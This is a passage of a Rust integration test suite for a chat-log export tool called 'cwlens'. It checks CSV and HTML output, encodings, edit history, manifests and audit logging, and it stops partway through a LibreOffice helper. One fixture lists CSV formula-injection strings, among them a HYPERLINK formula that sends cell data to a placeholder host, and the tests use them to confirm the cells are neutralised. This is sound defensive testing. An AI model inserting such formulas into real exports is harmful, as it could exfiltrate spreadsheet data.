//! `cwlens export` driven as a user drives it: small hand-made exports in
//! the reference layout are imported with the real binary, exported, and
//! the written files are read back.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use common::{Workspace, cwlens, row};
use sha2::{Digest, Sha256};

// ---------------------------------------------------------------------------
// Fixtures

/// A member of a room: account ID and name as the export writes it.
type Member = (&'static str, &'static str);

/// A message row: message ID, account ID, name, send time, update time, body.
type MessageRow = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

/// An edit log row: message ID, action, time, body before.
type LogRow = (&'static str, &'static str, &'static str, &'static str);

/// A group chat of a hand-made export.
struct RoomFixture {
    id: &'static str,
    name: &'static str,
    members: Vec<Member>,
    messages: Vec<MessageRow>,
    logs: Vec<LogRow>,
}

impl RoomFixture {
    fn group(id: &'static str, name: &'static str) -> RoomFixture {
        RoomFixture {
            id,
            name,
            members: Vec::new(),
            messages: Vec::new(),
            logs: Vec::new(),
        }
    }
}

/// A case imported from a hand-made export, in its own temporary folder.
struct Fixture {
    workspace: Workspace,
}

impl Fixture {
    /// Writes the rooms in the reference layout (Japanese headers, UTF-8
    /// with BOM) and imports them with the real binary.
    fn new(rooms: &[RoomFixture]) -> Fixture {
        let workspace = Workspace::new();
        let members: Vec<(&str, &str, &str, &str)> = rooms
            .iter()
            .flat_map(|room| {
                room.members
                    .iter()
                    .map(move |(account, name)| (room.id, room.name, *account, *name))
            })
            .collect();
        workspace.write_members(&members);
        for room in rooms {
            let messages: Vec<Vec<String>> = room
                .messages
                .iter()
                .map(|(id, account, name, sent, updated, body)| {
                    row(&[id, account, name, sent, updated, body])
                })
                .collect();
            workspace.write_messages(room.id, &messages);
            let logs: Vec<Vec<String>> = room
                .logs
                .iter()
                .map(|(id, action, time, body)| row(&[id, action, time, body]))
                .collect();
            workspace.write_logs(room.id, &logs);
        }
        let output =
            workspace.import_with(&["--investigator", "調査 太郎", "--purpose", "テスト調査"]);
        assert_eq!(
            common::code(&output),
            0,
            "import failed: {}",
            common::stderr(&output)
        );
        Fixture { workspace }
    }

    fn root(&self) -> &Path {
        self.workspace.root()
    }

    fn case(&self) -> &Path {
        &self.workspace.case
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root().join(name)
    }

    /// Runs `cwlens export --case … ARGS` and returns its output.
    fn export(&self, args: &[&str]) -> Output {
        cwlens()
            .arg("export")
            .arg("--case")
            .arg(self.case())
            .arg("--quiet")
            .args(args)
            .output()
            .unwrap()
    }

    /// Runs an export that must succeed.
    fn export_ok(&self, args: &[&str]) -> Output {
        let output = self.export(args);
        assert!(
            output.status.success(),
            "export {args:?} failed: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        output
    }
}

fn out_arg(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// Parses CSV bytes (UTF-8, BOM allowed) into rows of fields.
fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Undoes the `="…"` form of ID cells.
fn id_value(cell: &str) -> &str {
    cell.strip_prefix("=\"")
        .and_then(|rest| rest.strip_suffix('"'))
        .unwrap_or(cell)
}

/// Undoes the leading apostrophe of neutralized text cells.
fn text_value(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .trim_start_matches('\'')
                .starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) =>
        {
            rest
        }
        _ => cell,
    }
}

/// Column index of an English header.
fn column(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|field| field == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

fn sha256_hex(path: &Path) -> String {
    let digest = Sha256::digest(fs::read(path).unwrap());
    digest.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn read_manifest(path: &Path) -> serde_json::Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

const MEMBERS: [Member; 3] = [
    ("7", "試験 太郎"),
    ("8", "試験 花子"),
    ("9", "見本 次郎(解約済)"),
];

/// Builds a room with one body that has ①, 髙 and an emoji, for the Excel mojibake case.
fn b01_room() -> RoomFixture {
    let mut room = RoomFixture::group("55", "定例会議");
    room.members = MEMBERS.to_vec();
    room.messages = vec![(
        "1702215611007785348",
        "8",
        "試験 花子",
        "2023-04-01 09:00:00",
        "",
        "お疲れ様です。①の件、髙橋さんへ🙏",
    )];
    room
}

// ---------------------------------------------------------------------------
// CSV

#[test]
fn csv_starts_with_bom_and_japanese_header() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("b01.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);

    let bytes = fs::read(&out).unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
    let rows = parse_csv(&bytes);
    assert_eq!(
        rows[0],
        [
            "ルームID",
            "ルーム名",
            "ルーム種別",
            "メッセージID",
            "送信日時",
            "送信者ID",
            "送信者名",
            "解約済み",
            "本文",
            "本文（原文）",
            "編集日時",
            "削除日時",
            "以前の版の数",
            "タグ",
            "削除前の本文",
            "メモ"
        ]
    );
    assert_eq!(rows.len(), 2);
    let row = &rows[1];
    assert_eq!(id_value(&row[0]), "55");
    assert_eq!(row[1], "定例会議");
    assert_eq!(row[2], "グループ");
    assert_eq!(id_value(&row[3]), "1702215611007785348");
    assert_eq!(row[4], "2023-04-01T09:00:00+09:00");
    assert_eq!(id_value(&row[5]), "8");
    assert_eq!(row[6], "試験 花子");
    assert_eq!(row[7], "いいえ");
    assert_eq!(row[8], "お疲れ様です。①の件、髙橋さんへ🙏");
    assert_eq!(row[9], "お疲れ様です。①の件、髙橋さんへ🙏");
    assert_eq!(row[12], "0");
}

#[test]
fn csv_header_in_english() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("en.csv");
    cwlens()
        .args([
            "--lang", "en", "export", "--quiet", "--format", "csv", "--case",
        ])
        .arg(fixture.case())
        .args(["--out", out_arg(&out)])
        .assert()
        .success();
    let rows = parse_csv(&fs::read(&out).unwrap());
    assert_eq!(
        rows[0],
        [
            "room_id",
            "room_name",
            "room_type",
            "message_id",
            "sent_at",
            "sender_id",
            "sender_name",
            "resigned",
            "body",
            "body_raw",
            "edited_at",
            "deleted_at",
            "earlier_versions",
            "tags",
            "body_before_deletion",
            "note"
        ]
    );
    assert_eq!(rows[1][2], "group");
    assert_eq!(rows[1][7], "no");
}

#[test]
fn csv_every_field_is_quoted_with_crlf() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("quoted.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let text = String::from_utf8(fs::read(&out).unwrap()).unwrap();
    let header = text
        .trim_start_matches('\u{FEFF}')
        .split("\r\n")
        .next()
        .unwrap();
    assert!(header.starts_with("\"ルームID\",\"ルーム名\""), "{header}");
    assert!(text.contains("\"=\"\"1702215611007785348\"\"\""), "{text}");
    assert!(text.ends_with("\r\n"));
}

#[test]
fn csv_utf8_without_bom_and_plain_ids() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("plain.csv");
    fixture.export_ok(&[
        "--format",
        "csv",
        "--encoding",
        "utf8",
        "--plain-ids",
        "--out",
        out_arg(&out),
    ]);
    let bytes = fs::read(&out).unwrap();
    assert_eq!(bytes[0], b'"');
    let rows = parse_csv(&bytes);
    assert_eq!(rows[1][3], "1702215611007785348");
}

#[test]
fn csv_b03_cp932_replaces_visibly_and_lists_messages() {
    let mut room = RoomFixture::group("56", "髙橋 試験と山﨑 仮名");
    room.members = vec![("21", "髙橋 試験"), ("22", "山﨑 仮名")];
    room.messages = vec![
        (
            "3001",
            "21",
            "髙橋 試験",
            "2023-04-01 09:00:00",
            "",
            "①②を確認、㈱見本 ¾ 𠮷田 🙇",
        ),
        (
            "3002",
            "22",
            "山﨑 仮名",
            "2023-04-01 09:01:00",
            "",
            "10〜12時と10～12時",
        ),
    ];
    let fixture = Fixture::new(&[room]);
    let out = fixture.path("cp932.csv");
    let output = fixture.export_ok(&[
        "--format",
        "csv",
        "--encoding",
        "cp932",
        "--out",
        out_arg(&out),
    ]);

    let bytes = fs::read(&out).unwrap();
    assert_ne!(&bytes[..3], b"\xEF\xBB\xBF");
    let (text, _, had_errors) = encoding_rs::SHIFT_JIS.decode(&bytes);
    assert!(!had_errors);
    let rows = parse_csv(text.as_bytes());
    let widths: Vec<usize> = rows.iter().map(Vec::len).collect();
    assert!(widths.iter().all(|&width| width == 16), "{widths:?}");
    assert_eq!(rows[1][6], "髙橋 試験");
    assert_eq!(
        rows[1][9],
        "①②を確認、㈱見本 [U+00BE] [U+20BB7]田 [U+1F647]"
    );
    assert_eq!(rows[2][6], "山﨑 仮名");
    // Both wave dashes are 0x8160, which Windows and encoding_rs decode to U+FF5E.
    assert_eq!(rows[2][9], "10～12時と10～12時");
    let dash = [0x81u8, 0x60];
    assert_eq!(bytes.windows(2).filter(|pair| *pair == dash).count(), 4);
    assert!(!text.contains('?'));
    assert!(!text.contains("&#"));

    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("3001"), "{stderr}");
    assert!(stderr.contains("U+20BB7"), "{stderr}");
    assert!(!stderr.contains("3002"), "{stderr}");
    let manifest = read_manifest(&fixture.path("cp932.csv.manifest.json"));
    let replaced = &manifest["replaced_characters"]["messages"];
    assert_eq!(replaced.as_array().unwrap().len(), 1);
    assert_eq!(manifest["replaced_characters"]["message_count"], 1);
    assert_eq!(replaced[0]["message_id"], "3001");
    assert_eq!(
        replaced[0]["characters"],
        serde_json::json!(["U+00BE", "U+20BB7", "U+1F647"])
    );
    assert_eq!(manifest["encoding"], "cp932");
    let leftovers: Vec<_> = fs::read_dir(fixture.root())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".partial"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn csv_utf8_export_is_lossless() {
    let mut room = RoomFixture::group("56", "確認");
    room.members = vec![("21", "髙橋 試験")];
    room.messages = vec![(
        "3001",
        "21",
        "髙橋 試験",
        "2023-04-01 09:00:00",
        "",
        "①②を確認、㈱見本 ¾ 𠮷田 🙇 10～12",
    )];
    let fixture = Fixture::new(&[room]);
    let out = fixture.path("utf8.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    assert_eq!(rows[1][9], "①②を確認、㈱見本 ¾ 𠮷田 🙇 10～12");
    let manifest = read_manifest(&fixture.path("utf8.csv.manifest.json"));
    assert!(manifest["replaced_characters"].is_null());
}

const B05_VALUES: [&str; 8] = [
    "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"詳細\")",
    "@全員 確認お願いします",
    "+81-3-0000-0000",
    "-5%の件",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "a\",=1+1",
];

#[test]
fn csv_b05_formula_cells_are_neutralized() {
    let mut room = RoomFixture::group("57", "=1+1 ルーム");
    let ids = ["71", "72", "73", "74", "75", "76", "77", "78"];
    let message_ids = [
        "5001", "5002", "5003", "5004", "5005", "5006", "5007", "5008",
    ];
    for (index, value) in B05_VALUES.iter().enumerate() {
        room.members.push((ids[index], value));
        room.messages.push((
            message_ids[index],
            ids[index],
            value,
            "2023-04-01 09:00:00",
            "",
            value,
        ));
    }
    let fixture = Fixture::new(&[room]);
    let out = fixture.path("b05.csv");
    fixture.export_ok(&["--lang", "en", "--format", "csv", "--out", out_arg(&out)]);

    let rows = parse_csv(&fs::read(&out).unwrap());
    let header = &rows[0];
    let (name, body, raw, sent, room_name) = (
        column(header, "sender_name"),
        column(header, "body"),
        column(header, "body_raw"),
        column(header, "sent_at"),
        column(header, "room_name"),
    );
    assert_eq!(rows.len(), B05_VALUES.len() + 1);
    for row in &rows[1..] {
        let message = id_value(&row[column(header, "message_id")]);
        let index = message_ids.iter().position(|id| *id == message).unwrap();
        // The importer trims white space around names, so `\t=1+1` arrives as `=1+1`.
        let expected_name = B05_VALUES[index].trim();
        let expected_body = B05_VALUES[index];
        for (cell, expected) in [
            (&row[name], expected_name),
            (&row[body], expected_body),
            (&row[raw], expected_body),
        ] {
            assert_eq!(text_value(cell), expected, "{message}");
            let dangerous = expected.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']);
            assert_eq!(cell.starts_with('\''), dangerous, "{message}: {cell:?}");
        }
        assert_eq!(row[sent], "2023-04-01T09:00:00+09:00");
        assert_eq!(row[room_name], "'=1+1 ルーム");
        assert!(row[column(header, "message_id")].starts_with("=\""));
    }
    let manifest = read_manifest(&fixture.path("b05.csv.manifest.json"));
    assert!(
        manifest["spreadsheet_safety"]["neutralized_cells"]
            .as_u64()
            .unwrap()
            >= 21
    );
}

#[test]
fn csv_b06_multiline_bodies_stay_one_field() {
    let mut room = RoomFixture::group("58", "複数行");
    room.members = MEMBERS.to_vec();
    room.messages = vec![
        (
            "2001",
            "7",
            "試験 太郎",
            "2023-04-01 09:00:00",
            "",
            "1行目\n2行目, カンマ\r\n\"引用\"付き\r最後",
        ),
        ("2002", "8", "試験 花子", "2023-04-01 09:01:00", "", "次"),
    ];
    let fixture = Fixture::new(&[room]);
    let out = fixture.path("b06.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][9], "1行目\n2行目, カンマ\r\n\"引用\"付き\r最後");
    assert_eq!(rows[1][8], rows[1][9]);
    assert_eq!(rows[2][9], "次");
}

/// Builds a room whose message was edited from 10万 to 100万 and then deleted.
fn history_room() -> RoomFixture {
    let mut room = RoomFixture::group("59", "発注");
    room.members = MEMBERS.to_vec();
    room.messages = vec![
        (
            "3001",
            "9",
            "見本 次郎(解約済)",
            "2023-04-01 09:00:00",
            "2023-04-01 09:07:00",
            "[delete]",
        ),
        (
            "3002",
            "7",
            "試験 太郎",
            "2023-04-01 09:10:00",
            "",
            "了解です",
        ),
    ];
    room.logs = vec![
        ("3001", "編集", "2023-04-01 09:05:00", "10万円で発注します"),
        ("3001", "削除", "2023-04-01 09:07:00", "100万円で発注します"),
    ];
    room
}

#[test]
fn csv_history_goes_to_revisions_file() {
    let fixture = Fixture::new(&[history_room()]);
    let out = fixture.path("history.csv");
    fixture.export_ok(&["--lang", "en", "--format", "csv", "--out", out_arg(&out)]);

    let rows = parse_csv(&fs::read(&out).unwrap());
    let header = &rows[0];
    let deleted = rows.iter().find(|row| id_value(&row[3]) == "3001").unwrap();
    assert_eq!(
        deleted[column(header, "sender_name")],
        "見本 次郎 (resigned)"
    );
    assert_eq!(deleted[column(header, "resigned")], "yes");
    assert_eq!(
        deleted[column(header, "edited_at")],
        "2023-04-01T09:05:00+09:00"
    );
    assert_eq!(
        deleted[column(header, "deleted_at")],
        "2023-04-01T09:07:00+09:00"
    );
    assert_eq!(deleted[column(header, "earlier_versions")], "2");
    assert_eq!(deleted[column(header, "body")], "[deleted]");
    assert_eq!(
        deleted[column(header, "body_before_deletion")],
        "100万円で発注します"
    );
    let undeleted = rows.iter().find(|row| id_value(&row[3]) == "3002").unwrap();
    assert_eq!(undeleted[column(header, "body_before_deletion")], "");

    let revisions = parse_csv(&fs::read(fixture.path("history.revisions.csv")).unwrap());
    assert_eq!(
        revisions[0],
        [
            "room_id",
            "message_id",
            "version",
            "action",
            "action_at",
            "body_before",
            "body_before_raw",
            "room_name",
            "sent_at",
            "sender_id",
            "sender_name"
        ]
    );
    assert_eq!(revisions[1][7], "発注");
    assert_eq!(revisions[1][8], "2023-04-01T09:00:00+09:00");
    assert_eq!(id_value(&revisions[1][9]), "9");
    assert_eq!(revisions[1][10], "見本 次郎 (resigned)");
    assert_eq!(revisions.len(), 3);
    assert_eq!(revisions[1][2], "1");
    assert_eq!(revisions[1][3], "edit");
    assert_eq!(revisions[1][4], "2023-04-01T09:05:00+09:00");
    assert_eq!(revisions[1][6], "10万円で発注します");
    assert_eq!(revisions[2][3], "delete");
    assert_eq!(revisions[2][6], "100万円で発注します");
}

/// Message IDs of every storage form: `(id, stored as an SQLite INTEGER)`.
/// `7` and `007` are different messages.
const ID_FORMS: [(&str, bool); 9] = [
    ("7", true),
    ("007", false),
    ("0", true),
    ("1570000000000000001", true),
    ("9223372036854775807", true),
    ("9223372036854775808", false),
    ("18446744073709551616", false),
    ("12a", false),
    ("msg_x9", false),
];

/// Builds a room with one message per entry of [`ID_FORMS`], a minute apart,
/// a message `-5` and an edit of `007`.
fn id_forms_room() -> RoomFixture {
    let mut room = RoomFixture::group("60", "番号");
    room.members = MEMBERS.to_vec();
    const TIMES: [&str; 9] = [
        "2023-04-01 09:00:00",
        "2023-04-01 09:01:00",
        "2023-04-01 09:02:00",
        "2023-04-01 09:03:00",
        "2023-04-01 09:04:00",
        "2023-04-01 09:05:00",
        "2023-04-01 09:06:00",
        "2023-04-01 09:07:00",
        "2023-04-01 09:08:00",
    ];
    for (index, (id, _)) in ID_FORMS.iter().enumerate() {
        room.messages
            .push((id, "7", "試験 太郎", TIMES[index], "", "番号の確認"));
    }
    room.messages.push((
        "-5",
        "7",
        "試験 太郎",
        "2023-04-01 09:30:00",
        "",
        "負の番号",
    ));
    room.logs = vec![("007", "編集", "2023-04-01 08:59:00", "前の本文")];
    room
}

#[test]
fn message_id_forms_survive_csv_export() {
    let fixture = Fixture::new(&[id_forms_room()]);
    let ids: Vec<&str> = ID_FORMS.iter().map(|(id, _)| *id).collect();

    // The importer rejects a negative number as an ID a spreadsheet
    // damaged, so `-5` is quarantined and never stored.
    let db = common::open_read_only(fixture.case());
    let quarantined: i64 = db
        .query_row(
            "SELECT count(*) FROM quarantine WHERE reason LIKE '%\"-5\"%'",
            [],
            |row| row.get(0),
        )
        .unwrap();
    assert_eq!(quarantined, 1, "-5 is quarantined");
    let stored: Vec<(String, String)> = db
        .prepare(
            "SELECT CAST(message_id AS TEXT), typeof(message_id) FROM messages ORDER BY sent_at",
        )
        .unwrap()
        .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let expected: Vec<(String, String)> = ID_FORMS
        .iter()
        .map(|(id, integer)| {
            let class = if *integer { "integer" } else { "text" };
            (id.to_string(), class.to_string())
        })
        .collect();
    assert_eq!(stored, expected);

    let reader = cwlens::query::read::CaseReader::new(db);
    for id in &ids {
        let key = reader
            .find_message("60", id)
            .unwrap()
            .unwrap_or_else(|| panic!("{id} is not found"));
        let message = &reader.messages_by_keys(&[key]).unwrap()[0];
        assert_eq!(message.message_id, *id);
    }
    let edited = reader.find_message("60", "007").unwrap().unwrap();
    assert_eq!(reader.revisions(edited).unwrap().len(), 1, "edit of 007");
    let plain = reader.find_message("60", "7").unwrap().unwrap();
    assert!(reader.revisions(plain).unwrap().is_empty(), "no edit of 7");

    let out = fixture.path("plain.csv");
    fixture.export_ok(&[
        "--lang",
        "en",
        "--format",
        "csv",
        "--encoding",
        "utf8",
        "--plain-ids",
        "--out",
        out_arg(&out),
    ]);
    let text = String::from_utf8(fs::read(&out).unwrap()).unwrap();
    let lines: Vec<&str> = text.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), ids.len() + 1);
    for (line, id) in lines[1..].iter().zip(&ids) {
        assert!(
            line.starts_with(&format!("\"60\",\"番号\",\"group\",\"{id}\",")),
            "{id}: {line}"
        );
    }

    let out = fixture.path("spreadsheet.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    let cells: Vec<&str> = rows[1..].iter().map(|row| row[3].as_str()).collect();
    assert_eq!(
        cells,
        [
            "=\"7\"",
            "=\"007\"",
            "=\"0\"",
            "=\"1570000000000000001\"",
            "=\"9223372036854775807\"",
            "=\"9223372036854775808\"",
            "=\"18446744073709551616\"",
            "12a",
            "msg_x9",
        ]
    );
    let revisions = parse_csv(&fs::read(fixture.path("spreadsheet.revisions.csv")).unwrap());
    assert_eq!(revisions.len(), 2);
    assert_eq!(revisions[1][1], "=\"007\"");
}

#[test]
fn csv_without_history_has_no_revisions_file() {
    let fixture = Fixture::new(&[history_room()]);
    let out = fixture.path("nohist.csv");
    fixture.export_ok(&["--format", "csv", "--no-history", "--out", out_arg(&out)]);
    assert!(out.exists());
    assert!(!fixture.path("nohist.revisions.csv").exists());
    let manifest = read_manifest(&fixture.path("nohist.csv.manifest.json"));
    assert_eq!(manifest["history"], false);
    assert_eq!(manifest["outputs"].as_array().unwrap().len(), 1);
}

#[test]
fn csv_room_and_query_scopes() {
    let mut other = RoomFixture::group("60", "雑談");
    other.members = MEMBERS.to_vec();
    other.messages = vec![(
        "6001",
        "7",
        "試験 太郎",
        "2023-04-02 10:00:00",
        "",
        "給料の件",
    )];
    let fixture = Fixture::new(&[history_room(), other]);

    let out = fixture.path("room.csv");
    fixture.export_ok(&["--format", "csv", "--room", "60", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    assert_eq!(rows.len(), 2);
    assert_eq!(id_value(&rows[1][3]), "6001");
    let manifest = read_manifest(&fixture.path("room.csv.manifest.json"));
    assert_eq!(manifest["scope"]["kind"], "rooms");
    assert_eq!(manifest["scope"]["rooms"], serde_json::json!(["60"]));

    let out = fixture.path("query.csv");
    fixture.export_ok(&["--format", "csv", "--query", "了解", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    assert_eq!(rows.len(), 2);
    assert_eq!(id_value(&rows[1][3]), "3002");
    let manifest = read_manifest(&fixture.path("query.csv.manifest.json"));
    assert_eq!(manifest["scope"]["query"], "了解");
    assert_eq!(manifest["counts"]["messages"], 1);
}

#[test]
fn manifest_hashes_match_files() {
    let fixture = Fixture::new(&[history_room(), b01_room()]);
    let out = fixture.path("hashes.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let manifest = read_manifest(&fixture.path("hashes.csv.manifest.json"));
    let outputs = manifest["outputs"].as_array().unwrap();
    assert_eq!(outputs.len(), 2);
    for output in outputs {
        let path = fixture.root().join(output["path"].as_str().unwrap());
        assert_eq!(output["sha256"], sha256_hex(&path), "{}", path.display());
        assert_eq!(output["bytes"], fs::metadata(&path).unwrap().len());
    }
    assert_eq!(manifest["tool_version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(manifest["case"]["investigator"], "調査 太郎");
    assert_eq!(manifest["case"]["purpose"], "テスト調査");
    assert_eq!(manifest["counts"]["messages"], 3);
    assert_eq!(manifest["counts"]["earlier_versions"], 2);
    let sources = manifest["source_files"].as_array().unwrap();
    assert!(
        sources
            .iter()
            .any(|source| source["path"] == "members/members.csv")
    );
    let members = fixture.root().join("export/members/members.csv");
    let listed = sources
        .iter()
        .find(|source| source["path"] == "members/members.csv")
        .unwrap();
    assert_eq!(listed["sha256"], sha256_hex(&members));
}

#[test]
fn export_is_recorded_in_audit_log() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("audited.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);

    let output = cwlens()
        .args(["audit", "--json", "--case"])
        .arg(fixture.case())
        .output()
        .unwrap();
    assert!(output.status.success());
    let entries: Vec<serde_json::Value> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let entry = entries
        .iter()
        .find(|entry| entry["action"] == "export")
        .expect("no export entry in the audit log");
    let detail: serde_json::Value =
        serde_json::from_str(entry["detail"].as_str().unwrap()).unwrap();
    assert_eq!(detail["scope"]["kind"], "organization");
    assert_eq!(detail["format"], "csv");
    assert_eq!(detail["interface"], "cli");
    let recorded = &detail["outputs"][0];
    assert!(recorded["path"].as_str().unwrap().ends_with("audited.csv"));
    assert_eq!(recorded["sha256"], sha256_hex(&out));
    let manifest = fixture.path("audited.csv.manifest.json");
    assert_eq!(detail["manifest"]["sha256"], sha256_hex(&manifest));
}

#[test]
fn tags_show_as_column_and_badges() {
    let fixture = Fixture::new(&[history_room()]);
    for tag in ["証拠", "=要確認"] {
        cwlens()
            .args(["tag", "--message", "3002", "--add", tag, "--case"])
            .arg(fixture.case())
            .assert()
            .success();
    }

    let out = fixture.path("tags.csv");
    fixture.export_ok(&["--lang", "en", "--format", "csv", "--out", out_arg(&out)]);
    let rows = parse_csv(&fs::read(&out).unwrap());
    let tags = column(&rows[0], "tags");
    let row = rows.iter().find(|row| id_value(&row[3]) == "3002").unwrap();
    assert_eq!(row[tags], "'=要確認\n証拠");

    let html_out = fixture.path("tags.html");
    fixture.export_ok(&[
        "--format",
        "html",
        "--query",
        "tag:証拠",
        "--out",
        out_arg(&html_out),
    ]);
    let html = fs::read_to_string(&html_out).unwrap();
    assert_eq!(text_of(&html, "article").len(), 1);
    assert_eq!(text_of(&html, "article .badge.tag"), ["=要確認", "証拠"]);
}

#[test]
fn existing_output_needs_force() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("again.csv");
    fixture.export_ok(&["--format", "csv", "--out", out_arg(&out)]);
    let before = fs::read(&out).unwrap();
    let output = fixture.export(&["--format", "csv", "--out", out_arg(&out)]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("--force"), "{stderr}");
    assert!(stderr.contains("既にあります"), "{stderr}");
    assert_eq!(fs::read(&out).unwrap(), before);
    fixture.export_ok(&["--format", "csv", "--force", "--out", out_arg(&out)]);
}

/// Lists the files below `dir` with their contents, to compare before and after.
fn files_below(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files = Vec::new();
    for entry in fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            files.extend(files_below(&path));
        } else {
            files.push((path.clone(), fs::read(&path).unwrap()));
        }
    }
    files.sort();
    files
}

#[test]
fn output_inside_export_folder_is_rejected() {
    let fixture = Fixture::new(&[b01_room()]);
    let export = fixture.workspace.export.clone();
    let before = files_below(&export);
    let link = fixture.path("export-link");
    std::os::unix::fs::symlink(&export, &link).unwrap();

    let cases = [
        ("csv", export.join("report.csv")),
        ("csv", export.join("new-folder/report.csv")),
        ("csv", link.join("report.csv")),
        ("html", export.join("report")),
        ("html", export.clone()),
    ];
    for (format, out) in cases {
        let output = fixture.export(&["--format", format, "--out", out_arg(&out)]);
        assert_eq!(output.status.code(), Some(2), "{}", out.display());
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains("エクスポートのフォルダ") && stderr.contains("外の場所を指定"),
            "{}: {stderr}",
            out.display()
        );
    }
    assert_eq!(files_below(&export), before, "the export folder changed");
    assert!(!export.join("new-folder").exists());
}

#[test]
fn unknown_room_is_an_error() {
    let fixture = Fixture::new(&[b01_room()]);
    let output = fixture.export(&["--format", "csv", "--room", "999", "--out", "x.csv"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("999"), "{stderr}");
}

#[test]
fn empty_query_is_an_error() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("empty.csv");
    let output = fixture.export(&["--format", "csv", "--query", "  ", "--out", out_arg(&out)]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("検索語が空です"), "{stderr}");
    assert!(!out.exists());
}

#[test]
fn unreadable_filter_exports_nothing() {
    let fixture = Fixture::new(&[b01_room()]);
    for format in ["csv", "html"] {
        let out = fixture.path(&format!("bad.{format}"));
        let output = fixture.export(&[
            "--format",
            format,
            "--query",
            "before:2024-13-01 了解",
            "--out",
            out_arg(&out),
        ]);
        assert_eq!(output.status.code(), Some(2), "{format}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("2024-13-01"), "{stderr}");
        assert!(!out.exists(), "{format}: nothing is written");
        let manifest = fixture.path(&format!("bad.{format}.manifest.json"));
        assert!(!manifest.exists(), "{format}: no manifest");
    }
}

#[test]
fn empty_result_writes_empty_report_with_note() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("none.html");
    let output = fixture.export_ok(&[
        "--format",
        "html",
        "--query",
        "存在しない語",
        "--out",
        out_arg(&out),
    ]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("空の出力"), "{stderr}");
    let html = fs::read_to_string(&out).unwrap();
    assert!(text_of(&html, "article").is_empty());
    assert!(
        text_of(&html, "p.note")
            .iter()
            .any(|note| note.contains("該当するメッセージはありません"))
    );
}

#[test]
fn html_rejects_encoding() {
    let fixture = Fixture::new(&[b01_room()]);
    let out = fixture.path("x.html");
    let output = fixture.export(&[
        "--format",
        "html",
        "--encoding",
        "cp932",
        "--out",
        out_arg(&out),
    ]);
    assert_eq!(output.status.code(), Some(2));
    assert!(!out.exists());
}

// ---------------------------------------------------------------------------
// Spreadsheet round trip

/// Converts a file with LibreOffice; returns false when soffice is missing.
fn soffice_convert(
    input: &Path,
    target: &str,
    outdir: &Path,
    profile: &Path,
    infilter: Option<&str>,
) -> bool {
    let mut command = std::process::Command::new("soffice");
    command.arg("--headless").arg("--norestore").arg(format!(
        "-env:UserInstallation=file://{}",
        profile.display()
    ));
    if let Some(filter) = infilter {
        command.arg(format!("--infilter={filter}"));
    }
    let status = command
        .arg("--convert-to")
        .arg(target)
        .arg("--outdir")
        .arg(outdir)
        .arg(input)
        .output();
    match status {
